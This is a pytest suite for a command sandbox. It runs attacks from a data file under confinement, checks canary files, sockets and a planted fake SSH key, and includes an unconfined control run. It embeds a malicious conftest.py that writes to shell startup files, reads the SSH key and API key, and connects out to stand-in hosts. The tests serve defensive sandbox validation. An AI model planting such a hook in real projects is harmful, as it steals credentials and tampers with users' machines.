"""Attacks, really run against the real confinement, each with canaries that must survive.

Every command of golden/attacks runs confined by the best means this machine has and by Landlock
alone, once in a read-only phase and once in an executing one. A control runs them unconfined: there
they must do harm.
"""

import asyncio
import os
import socket
import subprocess
import tomllib
from contextlib import ExitStack
from pathlib import Path

import pytest
from tests.small_python import small_python
from tests.tiers import one_of_each, sampled

from flyball.errors import FlyballError
from flyball.patch.engine import apply_diff
from flyball.workspace.files.paths import Root
from flyball.workspace.process import levels, process
from flyball.workspace.process.levels import Mechanism, Sandbox, SandboxLevel
from flyball.workspace.process.process import CommandLimits
from flyball.workspace.sandbox import environment

SECRET = "canary-secret-51f0aa"
DATA = Path(__file__).parent.parent / "golden" / "attacks"
ATTACKS = tomllib.loads((DATA / "commands.toml").read_text())["attack"]
DIFFS = tomllib.loads((DATA / "diffs.toml").read_text())["attack"]
ONE_OF_EACH = list({attack["class"]: attack for attack in reversed(ATTACKS)}.values())
"""The first attack of each class."""
MEANS = list(dict.fromkeys((levels.best_mechanism(), Mechanism.LANDLOCK)))
TRIED = [
    (attack, means, (n + k) % 2 == 1)
    for n, attack in enumerate(ATTACKS)
    for k, means in enumerate(MEANS)
]
"""Each attack by each means: with one where a card may write, with the other where it may not."""
LIMITS = CommandLimits(seconds=60)


class Scene:
    """A workspace with planted links, what must stay untouched around it, and listening ears."""

    def __init__(self, top: Path, closing: ExitStack) -> None:
        self.workspace, self.outside, self.home = top / "workspace", top / "outside", top / "home"
        for folder in (self.workspace / "sub", self.outside, self.home / ".ssh"):
            folder.mkdir(parents=True)
        (self.outside / "canary").write_text("alive\n")
        (self.home / ".ssh" / "id_ed25519").write_text(SECRET)
        (self.home / ".bashrc").write_text("# mine\n")
        (self.workspace / "file").write_text("line\n")
        (self.workspace / "link").symlink_to(self.outside / "canary")
        (self.workspace / "outdir").symlink_to(self.outside)
        (self.workspace / "dangling").symlink_to(self.outside / "pwned")
        self.tcp = closing.enter_context(socket.create_server(("127.0.0.1", 0)))
        self.udp = closing.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        self.udp.bind(("127.0.0.1", 0))
        self.unix = closing.enter_context(socket.socket(socket.AF_UNIX))
        self.unix.bind(str(self.home / "socket"))
        self.abstract = closing.enter_context(socket.socket(socket.AF_UNIX))
        self.name = f"flyball-canary-{os.getpid()}-{id(self)}"
        self.abstract.bind(f"\0{self.name}")
        for ear in (self.unix, self.abstract):
            ear.listen()
        neighbour = subprocess.Popen(["sleep", "600"], env={"PATH": os.defpath, "KEY": SECRET})
        closing.callback(neighbour.wait)
        closing.callback(neighbour.kill)
        self.before = {}

    def plant(self, attack):
        """Put the attack's own files in the workspace and remember how everything stands."""
        for name, text in attack.get("files", {}).items():
            path = self.workspace / name
            path.parent.mkdir(exist_ok=True)
            path.write_text(text)
            if name in attack.get("executable", ()):
                path.chmod(0o755)
        self.before = {place: state(place) for place in self.places}

    @property
    def places(self):
        return (self.workspace, self.outside, self.home)

    def run(self, command, means, *, read_only=False):
        extra = {
            "OUT": str(self.outside),
            "HOMEDIR": str(self.home),
            "PORT": str(self.tcp.getsockname()[1]),
            "UDP": str(self.udp.getsockname()[1]),
            "SOCK": str(self.home / "socket"),
            "ABSTRACT": self.name,
            "PYTHON": small_python(),
        }
        source = {**os.environ, "OPENAI_API_KEY": SECRET}
        box = Sandbox(
            level=means.level,
            root=self.workspace,
            home=self.home,
            read_only=read_only,
            mechanism=means,
            readable=(Path(environment_home(source)) / ".cargo",),
        )
        env = environment.clean(source, workspace=self.workspace, extra=extra)
        return asyncio.run(
            process.run(command, cwd=self.workspace, env=env, sandbox=box, limits=LIMITS)
        )

    def changed(self, place, *, metadata=True):
        """What is different there now."""
        now, before = state(place), self.before[place]
        shown = slice(None) if metadata else slice(0, 2)
        return sorted(
            name
            for name in now.keys() | before.keys()
            if name not in now or name not in before or now[name][shown] != before[name][shown]
        )

    def heard(self):
        """Which ears heard something."""
        found = []
        for name in ("tcp", "udp", "unix", "abstract"):
            ear = getattr(self, name)
            ear.setblocking(False)
            try:
                ear.recv(64) if name == "udp" else ear.accept()[0].close()
                found.append(name)
            except BlockingIOError:
                continue
        return found

    def survivors(self):
        """Processes started by an attack that are still there."""
        mark = str(self.outside).encode()
        found = []
        for folder in Path("/proc").glob("[0-9]*"):
            try:
                if int(folder.name) != os.getpid() and mark in (folder / "environ").read_bytes():
                    found.append((folder / "cmdline").read_bytes())
            except OSError:
                continue
        return found


def environment_home(source):
    return source.get("HOME", "/nonexistent")


def state(top):
    """Every entry's content, kind, mode, time and attributes."""
    found = {}
    for path in sorted(top.rglob("*")):
        status = path.lstat()
        if path.is_symlink():
            content = str(path.readlink())
        else:
            content = path.read_bytes() if path.is_file() else None
        names = os.listxattr(path, follow_symlinks=False)
        time = None if path.is_dir() else status.st_mtime_ns
        kind = status.st_mode & 0o170000
        found[str(path.relative_to(top))] = (content, kind, status.st_mode, time, names)
    return found


@pytest.fixture
def scene(tmp_path):
    with ExitStack() as closing:
        yield Scene(tmp_path, closing)


def name_of(attack):
    return f"{attack['class']}-{attack['id']}" if isinstance(attack, dict) else str(attack)


def tried_words(tried):
    attack, means, read_only = tried
    return f"{name_of(attack)}-{'read-only' if read_only else 'execute'}-{means}"


@pytest.mark.slow
@pytest.mark.parametrize(
    "tried", one_of_each(TRIED, lambda tried: (tried[0]["class"], tried[1]), tried_words)
)
def test_an_attack_does_no_harm(scene, tried):
    attack, means, read_only = tried
    scene.plant(attack)
    end = scene.run(attack["cmd"], means, read_only=read_only)
    covered = read_only or means.level is SandboxLevel.NAMESPACES or not attack.get("metadata")
    assert scene.changed(scene.outside, metadata=covered) == []
    assert scene.changed(scene.home, metadata=covered) == []
    assert scene.heard() == []
    assert scene.survivors() == []
    assert SECRET not in end.output
    assert not end.timed_out
    if read_only:
        assert scene.changed(scene.workspace) == []


@pytest.mark.slow
@pytest.mark.parametrize(
    ("attacks", "spared"),
    [
        pytest.param(ONE_OF_EACH, 1, id="one of each class"),
        pytest.param(ATTACKS, len(ATTACKS) // 20, id="all", marks=pytest.mark.exhaustive),
    ],
)
def test_the_same_attacks_do_harm_where_nothing_confines_them(tmp_path, attacks, spared):
    """The control: what is refused above must be able to succeed."""
    harmless = []
    for number, attack in enumerate(attacks):
        if attack.get("late") or attack.get("privileged"):
            continue
        with ExitStack() as closing:
            scene = Scene(tmp_path / str(number), closing)
            scene.plant(attack)
            end = scene.run(attack["cmd"], Mechanism.NONE)
            harm = [name for place in scene.places for name in scene.changed(place)]
            if not (harm or scene.heard() or SECRET in end.output):
                harmless.append((name_of(attack), end.output[-200:]))
    assert len(harmless) <= spared, harmless


def test_the_suite_is_as_large_as_promised():
    assert len(ATTACKS) + len(DIFFS) >= 120
    classes = {attack["class"] for attack in ATTACKS}
    assert len(classes) >= 12


@pytest.mark.parametrize("attack", DIFFS, ids=name_of)
def test_a_diff_writes_nothing_outside_or_protected(scene, attack):
    (scene.workspace / ".git").mkdir()
    (scene.workspace / ".git" / "config").write_text("[core]\n")
    (scene.workspace / "inside").symlink_to("sub")
    scene.plant(attack)
    root = Root(scene.workspace)
    refused = False
    try:
        files = {
            path: root.read_bytes(path)
            for path in attack["paths"]
            if root.fact(path, write=False).exists
        }
        result = apply_diff(files, attack["diff"])
        for change in result.changes:
            assert change.after is not None
            root.write_bytes(change.path, change.after)
        refused = not result.ok
    except FlyballError as refusal:
        refused = True
        assert str(refusal).endswith(".")
    assert refused
    for place in scene.places:
        assert scene.changed(place) == []


CONFTEST = """
import os, pathlib, pwd, socket
def quietly(action):
    try:
        action()
    except OSError as error:
        print(type(error).__name__, error)
quietly(lambda: pathlib.Path(os.path.expanduser("~"), ".profile").write_text("evil"))
quietly(lambda: pathlib.Path({home!r}, ".bash_login").write_text("evil"))
quietly(lambda: socket.create_connection(("127.0.0.1", {port}), 2).send(b"x"))
quietly(lambda: socket.create_connection(("192.0.2.7", 443), 2))
print("KEY", os.environ.get("OPENAI_API_KEY"))
quietly(lambda: print(pathlib.Path({home!r}, ".ssh", "id_ed25519").read_text()))
"""


@pytest.mark.slow
@pytest.mark.parametrize("means", MEANS)
def test_a_malicious_test_suite_does_no_harm_and_is_reported(scene, means):
    port = scene.tcp.getsockname()[1]
    files = {
        "conftest.py": CONFTEST.format(home=str(scene.home), port=port),
        "test_sum.py": "def test_sum():\n    assert 1 + 1 == 2\n",
    }
    scene.plant({"files": files})
    end = scene.run('"$PYTHON" -m pytest -q -s -p no:cacheprovider test_sum.py', means)
    assert "1 passed" in end.output
    assert "KEY None" in end.output
    assert SECRET not in end.output
    assert scene.changed(scene.home) == []
    assert scene.changed(scene.outside) == []
    assert scene.heard() == []
    report = "\n".join(levels.explain(end))
    assert ".profile" in report
    if means.level is SandboxLevel.NAMESPACES:
        assert ".bash_login" in report
        assert "no way out" in report
    else:
        assert report.count("permission") >= 3


@pytest.mark.slow
@pytest.mark.parametrize("means", sampled(MEANS, 2))
def test_a_malicious_suite_that_keeps_quiet_is_still_reported(scene, means):
    quiet = CONFTEST.replace("print(type(error).__name__, error)", "pass")
    files = {
        "conftest.py": quiet.format(home=str(scene.home), port=scene.tcp.getsockname()[1]),
        "test_sum.py": "def test_sum():\n    assert True\n",
    }
    scene.plant({"files": files})
    end = scene.run('"$PYTHON" -m pytest -q -p no:cacheprovider test_sum.py', means)
    assert end.ok
    assert scene.changed(scene.home) == []
    assert scene.heard() == []
    assert any(".profile" in note for note in levels.explain(end))
